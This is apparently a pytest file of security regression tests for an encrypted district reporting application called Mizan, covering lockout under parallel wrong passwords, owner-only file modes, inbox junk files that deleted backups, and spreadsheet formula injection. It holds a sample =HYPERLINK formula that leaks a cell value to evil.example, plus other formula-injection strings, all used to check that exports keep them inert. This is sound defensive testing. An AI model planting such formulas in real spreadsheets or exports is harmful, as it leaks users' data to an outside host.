"""Issue 12 as the attacks they are: each test does what an insider, a junk file or a curious reader would
do, through the public functions or the real command line, on real encrypted databases, and fails on the
code before its fix (each commit says how that was checked).

Grouped by the issue's items: 6 (formula injection), 7 (lockout in parallel), 9 (junk in the inbox), and
the low items (the trend report of a desk indicator, `audit verify` for operators, owner-only files).
"""

from __future__ import annotations

import csv
import datetime as dt
import json
import os
import shutil
import stat
import subprocess
import sys
import time
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from main import main
from storage.core.backup import (
    automatic_backup,
    automatic_backup_files,
    backup_now,
    ledger_path,
    restore_backup,
    set_backup_keep,
    with_password,
)
from storage.core.keyslots import MAX_FAILURES, KeyFile, keyfile_path
from storage.core.session import create_database, open_session
from storage.errors import AuthError, PermissionDenied
from storage.records.users import add_user
from storage.records.values import list_indicator_values, save_indicator_values
from storage.reports.build import REPORT_KINDS, Report, Table, build_report
from storage.reports.files import write_report
from storage.sheets.cells import csv_field, csv_text
from storage.sheets.tables import Sheet, read_rows, write_sheets
from storage.sheets.values import load_values, write_template
from storage.validation import ValueInput
from storage.views.audit_trail import verify_audit
from sync.devices import enroll_device, revoke_device
from sync.importer import import_bundles
from sync.inbox import import_inbox, scan_inbox
from sync.keys import export_key_file, trust_centre
from tests.conftest import ADMIN_PASSWORD, OPERATOR_PASSWORD, SUPERVISOR_PASSWORD, table_counts
from tests.sync_helpers import add_desk_cases, add_values, export_to, last_month, link

ROOT = Path(__file__).resolve().parent.parent
JUNK_REASON = "junk.mizan is not a Mizan bundle (not an age-encrypted file)."


def run_main(*args: str, password: str, db: Path) -> subprocess.Popen:
    """``python main.py --db DB ARGS`` in a process of its own (started, not waited for)."""
    env = {**os.environ, "MIZAN_PASSWORD": password, "QT_QPA_PLATFORM": "offscreen", "PYTHONPATH": str(ROOT)}
    return subprocess.Popen([sys.executable, str(ROOT / "main.py"), "--db", str(db), *args], cwd=ROOT, env=env,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)


# -- item 7: the lockout, attacked in parallel ------------------------------------------------------------

PARALLEL_ATTEMPTS = 16


def test_sixteen_parallel_wrong_passwords_lock_the_user_and_none_crashes(district_db: Path):
    """Wrong passwords tried by 16 processes at once: each is counted (five lock the user, the rest are
    refused as locked without being tried), no process crashes on a shared temporary file, and no
    temporary file is left behind."""
    attempts = [run_main("--user", "omar", "values", password=f"wrong-guess-{n}", db=district_db)
                for n in range(PARALLEL_ATTEMPTS)]
    results = [(attempt.wait(timeout=300), *attempt.communicate()) for attempt in attempts]
    errors = [err.strip() for _code, _out, err in results]
    assert [code for code, _out, _err in results] == [4] * PARALLEL_ATTEMPTS, errors
    assert not [err for err in errors if "Traceback" in err]
    assert sorted(errors) == sorted(
        [f"Wrong password for 'omar'. {left} tries left before the user is locked." if left > 1 else
         "Wrong password for 'omar'. One more wrong try locks the user." for left in range(1, MAX_FAILURES)]
        + [error for error in errors if error.startswith("Wrong password for 'omar'. The user is now locked for 15 minutes, until ")]
        + [error for error in errors if error.startswith("User 'omar' is locked after 5 wrong passwords until ")])
    assert len([error for error in errors if "is now locked" in error]) == 1  # the fifth, with the lock's end
    lockout = KeyFile.load(keyfile_path(district_db)).content["lockout"]["omar"]
    assert lockout["failures"] == MAX_FAILURES and lockout["locked_until"]
    with pytest.raises(AuthError, match="is locked after 5 wrong passwords"):
        open_session(district_db, "omar", OPERATOR_PASSWORD)  # even the right password waits now
    assert sorted(p.name for p in district_db.parent.iterdir() if p.name.endswith(".tmp")) == []


def test_a_long_open_session_does_not_undo_a_lock_counted_elsewhere(district_db: Path, district_admin):
    """An admin's session opened this morning adds a user after another process has locked omar: saving
    its key file must not write back the failure count it read at sign-in."""
    for _ in range(MAX_FAILURES):
        with pytest.raises(AuthError):
            open_session(district_db, "omar", "wrong-guess")
    add_user(district_admin, "nida", "operator", "nida-password-1")
    with pytest.raises(AuthError, match="is locked after 5 wrong passwords"):
        open_session(district_db, "omar", OPERATOR_PASSWORD)
    open_session(district_db, "nida", "nida-password-1").close()


# -- low: new database, key, ledger and backup files are readable by their owner only ---------------------


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.mark.skipif(os.name == "nt", reason="POSIX modes; on Windows the profile's ACL protects the files")
def test_new_database_key_ledger_and_backup_files_are_owner_only(tmp_path: Path, clerk, district_admin):
    """A curious local user (another account on the PC) reads nothing: every file Mizan creates that holds
    the database, its key slots, the revocation ledger or a backup is 0600, whatever the umask allows."""
    old_umask = os.umask(0o022)  # the usual umask, which leaves new files readable by everyone
    try:
        db = tmp_path / "new" / "quetta.db"
        session, _recovery = create_database(db, role="district", admin="admin", password=ADMIN_PASSWORD,
                                             district="QUETTA", device_name="Quetta DPO")
        backup = backup_now(session, tmp_path / "usb" / "quetta.mizan-backup.zip")
        session.close()
        created = [db, keyfile_path(db), backup.path]
        created += [path for path in (Path(f"{db}-wal"), Path(f"{db}-shm"), Path(f"{db}.keys.lock")) if path.exists()]
        assert {str(path): oct(_mode(path)) for path in created} == {str(path): "0o600" for path in created}

        restored = tmp_path / "restored" / "quetta.db"
        restore_backup(backup.path, restored, with_password("admin", ADMIN_PASSWORD))
        assert oct(_mode(restored)) == oct(_mode(keyfile_path(restored))) == "0o600"

        revoke_device(clerk, link(clerk, district_admin, tmp_path).device_id)
        assert oct(_mode(ledger_path(clerk.path))) == "0o600"
    finally:
        os.umask(old_umask)
    assert json.loads(keyfile_path(db).read_text())["format"] == "mizan-keyslots-2"


# -- item 9: a junk file in the inbox deletes the backups -------------------------------------------------


def _settled(path: Path) -> Path:
    """Date a file a minute back: copied onto the shared drive a while ago, not still being written."""
    past = time.time() - 60
    os.utime(path, (past, past))
    return path


def _backup_named(db: Path, when: dt.datetime, reason: str = "daily") -> str:
    return f"{db.name}-{when:%Y%m%d-%H%M%S-%f}-{reason}.mizan-backup.zip"


def _old_backups(session, days: list[int]) -> list[str]:
    """Real automatic backups of ``session``'s database, renamed as if made that many days ago."""
    made = automatic_backup(session.db, session.path, "daily", session.user)
    names = []
    for back in days:
        name = _backup_named(session.path, dt.datetime.now() - dt.timedelta(days=back))
        shutil.copyfile(made, made.with_name(name))
        names.append(name)
    made.unlink()
    return sorted(names)


def _backup_names(db: Path) -> list[str]:
    return [path.name for path in automatic_backup_files(db)]


def test_a_junk_file_in_the_inbox_is_tried_once_and_deletes_no_backup(tmp_path: Path, clerk, centre_db: Path):
    """The import desk watches an inbox; someone drops a file that is no bundle. Every 30-second scan used
    to offer it again, back up before "importing" it and prune the oldest backup: within minutes the
    last days' backups were gone. Now it is tried once, makes no backup, and is offered again only once
    its bytes change."""
    kept = _old_backups(clerk, list(range(12, 2, -1)))  # ten backups, from 12 to 3 days ago
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    junk = inbox / "junk.mizan"
    junk.write_bytes(b"not a bundle\n" * 300)
    _settled(junk)
    before = table_counts(clerk)

    offered, outcomes = [], []
    for _ in range(20):  # ten minutes of the import desk's polling
        found = scan_inbox(clerk, inbox, settle_seconds=0)
        offered.append([path.name for path in found])
        if found:
            outcomes += import_bundles(clerk, found)
    assert offered == [["junk.mizan"]] + [[]] * 19
    assert [(o.status, o.reason) for o in outcomes] == [("rejected", JUNK_REASON)]
    assert _backup_names(centre_db) == kept
    assert table_counts(clerk) == before

    with open(junk, "ab") as handle:  # changed bytes: a new file, tried again (and still no backup)
        handle.write(b"more")
    _settled(junk)
    assert [path.name for path in scan_inbox(clerk, inbox, settle_seconds=0)] == ["junk.mizan"]
    assert [o.status for o in import_inbox(clerk, inbox, settle_seconds=0)] == ["rejected"]
    assert _backup_names(centre_db) == kept


def test_an_unknown_devices_bundle_waits_in_the_inbox_until_its_device_is_enrolled(
        tmp_path: Path, clerk, centre_db: Path, district_admin, supervisor):
    """A bundle from a PC the centre has not enrolled is refused without a backup and not offered again,
    until the device is enrolled from its enrollment file: then the next scan imports it, backing up once."""
    # Each side reads its own fingerprint out by phone; the other types it.
    centre_print = export_key_file(clerk, tmp_path / "centre.key")
    trust_centre(district_admin, tmp_path / "centre.key", centre_print)
    quetta_print = export_key_file(district_admin, tmp_path / "quetta.enroll")
    add_values(supervisor)
    inbox = tmp_path / "inbox"
    bundle = _settled(export_to(supervisor, inbox))

    [refused] = import_inbox(clerk, inbox, settle_seconds=0)
    assert refused.status == "rejected" and refused.unknown_device is not None
    assert scan_inbox(clerk, inbox, settle_seconds=0) == []
    assert _backup_names(centre_db) == []

    enroll_device(clerk, tmp_path / "quetta.enroll", quetta_print)
    assert scan_inbox(clerk, inbox, settle_seconds=0) == [bundle]
    [imported] = import_inbox(clerk, inbox, settle_seconds=0)
    assert imported.status == "imported"
    [backup] = _backup_names(centre_db)
    assert backup.endswith("-before-import.mizan-backup.zip")


def test_automatic_backups_are_pruned_by_age_as_well_as_count(supervisor, district_db: Path):
    """A burst of automatic backups in one afternoon (many imports, or a loop gone wrong) used to push out
    every older one beyond the count. Now every backup of the last three days with backups stays."""
    old = _old_backups(supervisor, [6, 5, 4, 3, 2, 1])
    set_backup_keep(supervisor, 2)
    assert _backup_names(district_db) == old[-3:]  # 6 to 4 days ago: beyond the count and the three days
    for _ in range(6):
        automatic_backup(supervisor.db, district_db, "before-import", supervisor.user)
    names = _backup_names(district_db)
    assert names[:2] == old[-2:] and len(names) == 8  # the day before yesterday's, yesterday's, today's six


def _key_file(clerk, path: Path) -> Path:
    export_key_file(clerk, path)
    return path


# -- item 6: spreadsheet formula injection ----------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Click for the guide")'
# A formula, the other starts OWASP lists, an error code, and real comments that begin with a quote.
TRICKY_COMMENTS = [HYPERLINK, "+92 300 1234567 called", "-see the FIR register", "@home visit", "\tindented",
                   "#N/A", "'tis the season", "'=already quoted by someone", "''=two quotes", "plain"]


def _comment_values(supervisor, comments: list[str]) -> list[ValueInput]:
    """One indicator figure per comment (PRO-01 in as many past months), saved by the district."""
    inputs = [ValueInput("PRO-01", "QUETTA", _month(back), value=10 + back, comment=comment)
              for back, comment in enumerate(comments, start=1)]
    save_indicator_values(supervisor, inputs)
    return inputs


def _month(back: int) -> str:
    day = dt.date.today().replace(day=1)
    for _ in range(back):
        day = (day - dt.timedelta(days=1)).replace(day=1)
    return f"{day:%Y-%m}"


def _comments_in(path: Path, period_comment: dict[str, str]) -> dict[str, str | None]:
    """The comment each period's PRO-01 row carries in a template file, as Mizan reads it back."""
    found = {}
    for _number, cells in read_rows(path):
        if cells[0] == "PRO-01" and cells[2] in period_comment and cells[3] == "total":
            found[cells[2]] = cells[7]
    return found


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_a_comment_that_is_a_formula_comes_out_of_the_template_as_text(tmp_path: Path, supervisor, suffix: str):
    """A district comment =HYPERLINK(...) used to come out of the entry template as a live formula (XLSX)
    or a raw formula field (CSV). Every text cell is now text; figures are numbers; and loading the
    file back gives every comment exactly as it was typed."""
    inputs = _comment_values(supervisor, TRICKY_COMMENTS)
    stored = _stored_comments(supervisor)  # as storage keeps them (it trims the tab's whitespace)
    assert stored[inputs[0].period] == HYPERLINK
    for value in inputs:
        out = tmp_path / f"{value.period}{suffix}"
        write_template(supervisor, value.period, out)
        assert _comments_in(out, {value.period: ""}) == {value.period: stored[value.period]}
        # Back in, for real: every comment as it was (an added quote would change it), the figures numbers.
        loaded = load_values(supervisor, out)
        assert loaded.ok and loaded.saved.updated == 0 and loaded.saved.new == 0, loaded.problems
    assert _stored_comments(supervisor) == stored
    out = tmp_path / f"{inputs[0].period}{suffix}"
    if suffix == ".xlsx":
        sheet = load_workbook(out)["values"]
        types = {cell.data_type for row in sheet.iter_rows(min_row=2) for cell in row if cell.value is not None}
        assert types == {"s", "n"}  # text and numbers: no formula (f), no error (e)
        [row] = [row for row in sheet.iter_rows(min_row=2) if row[0].value == "PRO-01" and row[3].value == "total"
                 and row[2].value == inputs[0].period]
        assert (row[4].value, row[4].data_type, row[7].value, row[7].data_type, row[7].quotePrefix) == (
            11, "n", HYPERLINK, "s", True)
    else:
        [row] = [row for row in csv.reader(out.read_text(encoding="utf-8-sig").splitlines())
                 if row[0] == "PRO-01" and row[2] == inputs[0].period and row[3] == "total"]
        assert (row[4], row[7]) == ("11", "'" + HYPERLINK)


def _stored_comments(session) -> dict[str, str]:
    return {v["period"]: v["comment"] for v in list_indicator_values(session, district="QUETTA")
            if v["indicator"] == "PRO-01" and v["cell"] == "total"}


def test_text_is_quoted_in_csv_and_read_back_exactly_while_figures_stay_numbers(tmp_path: Path):
    """Every text the CSV writer quotes is read back as it was written, and only text is quoted: a figure
    -5 is a number in both formats (a spreadsheet would read '-5 as text)."""
    rows = [[comment, -5, 2.5, None] for comment in TRICKY_COMMENTS] + [["-5", -5, -0.25, 0]]
    for suffix in (".csv", ".xlsx"):
        out = tmp_path / f"sheet{suffix}"
        write_sheets(out, [Sheet("values", ("text", "figure", "fraction", "empty"), rows)])
        back = [cells for _number, cells in read_rows(out)][1:]
        if suffix == ".csv":
            assert [cells[0] for cells in back] == [row[0] for row in rows]
            assert [cells[1:] for cells in back] == [["-5", "2.5", ""]] * len(TRICKY_COMMENTS) + [["-5", "-0.25", "0"]]
            fields = [row[1] for row in csv.reader(out.read_text(encoding="utf-8-sig").splitlines()[1:])]
            assert set(fields) == {"-5"}  # the figures are not quoted
        else:
            assert back == rows
    assert csv_field(-5) == -5 and csv_field("-5") == "'-5" and csv_text("'-5") == "-5"
    assert csv_field("'tis") == "'tis" and csv_text("'tis") == "'tis"
    assert csv_field("'=x") == "''=x" and csv_text("''=x") == "'=x"


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_report_files_write_text_as_text_and_numbers_as_numbers(tmp_path: Path, suffix: str):
    """Reports carry names and notes that came from districts (desk names, device names): none of their
    text becomes a formula in XLSX or CSV, and the figure columns stay numeric."""
    frame = pd.DataFrame({"desk": [HYPERLINK, "@QTA-CITY", "plain"], "clients": [3, -1, 12],
                          "share": [0.5, -2.25, None], "mixed": ["<5", 7, "=1+1"]})
    report = Report(kind="desk", title="=TITLE()", scope="+All districts", span="2026", generated_at="-now",
                    tables=[Table("=caption", frame, formats={"clients": "count", "share": "decimal"})],
                    notes=["@note"])
    [written] = write_report(report, tmp_path / f"report{suffix}")
    if suffix == ".xlsx":
        sheet = load_workbook(written).active
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert {cell.data_type for cell in cells} == {"s", "n"}
        assert [c.value for c in cells if c.data_type == "n"] == [3, 0.5, -1, -2.25, 7, 12]
        assert HYPERLINK in [c.value for c in cells] and "=1+1" in [c.value for c in cells]
    else:
        lines = written.read_text(encoding="utf-8-sig").splitlines()
        assert lines[1:] == [f""""'{HYPERLINK.replace('"', '""')}",3,0.5,<5""", "'@QTA-CITY,-1,-2.25,7",
                             "plain,12,,'=1+1"]
        assert [csv_text(field) for field in next(csv.reader([lines[1]]))][:1] == [HYPERLINK]


# -- low: the trend of a desk indicator; every report kind x every indicator ------------------------------


def _reports_of_every_kind_and_indicator(session, districts: list[str] | None, out: Path) -> None:
    """Every report kind builds; the trend builds for every indicator of the catalogue on its own (one row
    per district, no duplicate), and all the trends together write as .xlsx, .pdf and .csv."""
    codes = sorted(session.catalogue.indicators)
    for kind in REPORT_KINDS:
        report = build_report(session, kind, districts=districts)
        assert report.kind == kind and report.tables, kind
    for code in codes:
        report = build_report(session, "trend", indicators=[code], districts=districts)
        for table in report.tables:
            assert table.frame["district"].is_unique, (code, table.caption)
    every = build_report(session, "trend", indicators=codes, districts=districts)
    for suffix in (".xlsx", ".pdf", ".csv"):
        assert all(path.stat().st_size for path in write_report(every, out / f"trends{suffix}"))


def test_every_report_kind_and_every_indicator_at_a_district(tmp_path: Path, supervisor, district_db: Path,
                                                             monkeypatch, capsys):
    """`report --kind trend --indicator POL-09` used to crash with pandas' "Index contains duplicate
    entries": each desk indicator's trend took all five desk indicators' totals."""
    add_values(supervisor, {"PRO-01": 41, "CRT-01": 12})
    add_desk_cases(supervisor, 3, report_date=f"{last_month()}-15", incident_date=f"{last_month()}-13")
    _reports_of_every_kind_and_indicator(supervisor, None, tmp_path)
    monkeypatch.setenv("MIZAN_PASSWORD", SUPERVISOR_PASSWORD)
    assert main(["--db", str(district_db), "--user", "sana", "report", "--kind", "trend", "--indicator", "POL-09",
                 "--out", str(tmp_path / "pol-09.csv")]) == 0
    assert capsys.readouterr().err == ""
    [row] = list(csv.DictReader((tmp_path / "pol-09.csv").read_text(encoding="utf-8-sig").splitlines()))
    # The 3 clients of last month read "<5" (issue 12 item 3: the trend printed them as 3); the other months 0.
    figures = {k: v for k, v in row.items() if k not in ("district", "district name")}
    assert row["district"] == "QUETTA" and figures.pop(last_month()) == "<5" and set(figures.values()) == {"0"}


def test_every_report_kind_and_every_indicator_at_the_centre(tmp_path: Path, clerk):
    _reports_of_every_kind_and_indicator(clerk, ["QUETTA", "PISHIN"], tmp_path)


# -- low: an operator may not run `audit verify` ----------------------------------------------------------


def test_an_operator_may_not_verify_the_audit_log(district_db: Path, operator, supervisor, monkeypatch, capsys):
    """Operators do not read the audit log (the audit screen is refused to them); `audit verify` let them
    read its size and state all the same."""
    with pytest.raises(PermissionDenied) as refused:
        verify_audit(operator)
    assert str(refused.value) == OPERATOR_REFUSED
    assert verify_audit(supervisor).ok
    monkeypatch.setenv("MIZAN_PASSWORD", OPERATOR_PASSWORD)
    before = table_counts(supervisor)
    assert main(["--db", str(district_db), "--user", "omar", "audit", "verify"]) == 4
    captured = capsys.readouterr()
    assert (captured.out, captured.err.strip()) == ("", OPERATOR_REFUSED)
    assert table_counts(supervisor) == before
    monkeypatch.setenv("MIZAN_PASSWORD", SUPERVISOR_PASSWORD)
    assert main(["--db", str(district_db), "--user", "sana", "audit", "verify"]) == 0
    assert capsys.readouterr().out.startswith("Audit log intact: ")


OPERATOR_REFUSED = "omar (role: operator) may not read the audit log; that needs one of the roles: admin, clerk, supervisor."
